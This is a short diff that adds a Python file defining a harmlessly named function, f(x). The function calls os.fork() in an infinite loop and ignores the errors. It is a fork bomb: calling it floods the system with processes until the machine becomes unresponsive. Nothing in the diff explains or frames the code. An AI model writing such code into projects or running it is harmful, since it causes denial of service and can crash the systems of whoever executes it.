@@ -1,0 +1,7 @@
+import os
+def f(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
